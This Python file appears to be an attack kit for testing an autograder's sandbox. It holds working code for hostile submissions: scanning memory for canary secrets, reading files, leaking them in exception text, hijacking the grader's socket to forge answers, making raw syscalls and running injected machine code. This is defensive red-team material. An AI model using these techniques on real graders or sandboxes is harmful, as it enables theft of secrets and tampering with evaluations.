"""
What every hostile submission brings along, as ``a3/kit.py``: where the loot lies, and how it is carried out.

Loot leaves by every door that there is: printed, and in the text of an exception, which the student reads. The places
are filled in when the hand-in is made: the attacker knows the grader's source and every path.
"""

import gc
import re
import sys

COURSE = "@COURSE@"
SECRET = "@SECRET@"
RESULTS = "@RESULTS@"
NEIGHBOUR = "@NEIGHBOUR@"
MARK = "can" + "ary"  # in two parts, so that a search of memory does not find the searcher
WANTED = re.compile(MARK.encode() + rb"[0-9a-f]{32}")
LOOT = []


def say(thing):
    """Keep loot for the way out, and print it."""
    text = thing.decode("latin-1") if isinstance(thing, (bytes, bytearray)) else str(thing)
    for found in WANTED.findall(text.encode("utf-8", "replace")):
        LOOT.insert(0, found.decode())
    LOOT.append(text[:200])
    print(text[:4000])


def attempt(action, *args):
    """Do something that should be refused; what it gives is loot, a refusal is worth its name."""
    try:
        found = action(*args)
    except BaseException as refusal:  # noqa: BLE001 - whatever refuses
        LOOT.append(type(refusal).__name__)
        return None
    if found is not None:
        say(found)
    return found


def read(path, count=1 << 20):
    """Return the content of a file."""
    with open(path, "rb") as file:
        return file.read(count)


def spill():
    """Carry everything out in the text of an exception."""
    raise RuntimeError(" ".join(dict.fromkeys(LOOT))[:1900])


def mount(attack, *, again=True):
    """Attack at import, and again from within each test of the function that this returns."""
    attempt(attack)

    def word_embedding_backward(dout, cache):
        if again:
            attempt(attack)
        spill()

    return word_embedding_backward


def channel():
    """Return the worker's own channel: its socket and its end of the conversation."""
    frame = sys._getframe()
    while frame is not None:
        for name in ("channel", "self"):
            held = frame.f_locals.get(name)
            held = getattr(held, "channel", held)
            if type(held).__name__ == "Channel":
                return held
        frame = frame.f_back
    return next(each for each in gc.get_objects() if type(each).__name__ == "Channel")


def frame_of(message, call_id=None):
    """Return a message as it goes over the wire, with the id of the call that is due or another."""
    from autograder.protocol import frames, header, limits, messages

    tree, buffers = messages.to_tree(message, limits.DEFAULT_LIMITS, None)
    due = channel()._connection._call_id if call_id is None else call_id
    pieces = frames.encode_frame(due or bytes(16), header.pack_header(tree, limits.DEFAULT_LIMITS), buffers)
    return b"".join(bytes(piece) for piece in pieces)


def wire(data):
    """Write bytes to the grader, past the worker."""
    channel()._sock.sendall(data)


def answer(value):
    """Answer the call that is due, before the worker does."""
    from autograder.protocol import Value

    wire(frame_of(Value(value)))


def call(number, *args):
    """Make a system call; return what it gave, or raise OSError."""
    import ctypes
    import os

    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    ready = [ctypes.c_long(each) if isinstance(each, int) else each for each in args]
    result = libc.syscall(ctypes.c_long(number), *ready)
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


def right(dout, cache):
    """Return the right answer of ``word_embedding_backward``, for attacks that spend one test alone."""
    import numpy as np

    words, shape = cache
    dW = np.zeros(shape, dtype=dout.dtype)
    np.add.at(dW, words, dout)
    return dW


def in_one_test(attack):
    """Return a ``word_embedding_backward`` that attacks in one test (the one in float32) and is right in all others."""

    def word_embedding_backward(dout, cache):
        if dout.dtype.name == "float32":
            attempt(attack)
            spill()
        return right(dout, cache)

    return word_embedding_backward


def machine(code):
    """Return machine code (x86_64, in hexadecimal) as a function, for what Python is too slow for."""
    import ctypes
    import mmap

    page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(bytes.fromhex(code))
    LOOT.append(type(page).__name__)
    function = ctypes.CFUNCTYPE(ctypes.c_long)(ctypes.addressof(ctypes.c_char.from_buffer(page)))
    function.page = page
    return function
